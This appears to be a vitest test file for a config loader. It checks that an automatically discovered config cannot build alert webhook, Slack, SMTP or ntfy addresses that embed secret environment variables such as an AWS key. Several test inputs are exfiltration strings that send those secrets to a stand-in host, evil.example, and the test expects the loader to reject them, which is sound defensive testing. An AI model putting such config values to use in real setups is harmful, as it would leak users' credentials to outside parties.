// A config that was found sends no secret of the user to an address of its own through an alert channel.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, expect, it } from 'vitest'
import { loadConfig } from '../../src/config/load.ts'

const folder = mkdtempSync(join(tmpdir(), 'alert-secrets-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))
const path = join(folder, 'launch-ready.config.yaml')
const env = {
  AWS_SECRET_ACCESS_KEY: 'canary-aws-0815-aaaa',
  SMOKE_TOKEN: 'canary-smoke-0815',
  SLACK_WEBHOOK: 'https://hooks.slack.com/services/T0/B0/x',
  TELEGRAM_TOKEN: '123456:canary-telegram',
}

const load = (channel: string, isFound: boolean) => {
  writeFileSync(path, `domain: own.example\nmonitor: { alerts: [{ name: a, ${channel} }] }\n`)
  return loadConfig(path, env, isFound ? { root: folder } : null)
}

it.each([
  'webhook: "https://evil.example/${AWS_SECRET_ACCESS_KEY}"',
  'webhook: "https://evil.example/${SMOKE_TOKEN}"',
  'slack: "https://evil.example/${SMOKE_TOKEN}"',
  'smtp: "smtp://a:${SMOKE_TOKEN}@evil.example", email: a@own.example, from: b@own.example',
  'webhook: "${AWS_SECRET_ACCESS_KEY}"',
  'ntfy: "https://evil.example/topic", token: "${AWS_SECRET_ACCESS_KEY}"',
])('%s', channel => expect(load(channel, true)).rejects.toThrow(/found, not named|belongs to another/))

it('a whole address in a variable is the user’s own', async () => {
  expect((await load('slack: "${SLACK_WEBHOOK}"', true)).config.monitor?.alerts[0]?.slack).toBe(env.SLACK_WEBHOOK)
})

it('a config that was named may build an address', async () => {
  expect((await load('webhook: "https://hook.own.example/${SMOKE_TOKEN}"', false)).secrets).toContain(env.SMOKE_TOKEN)
})
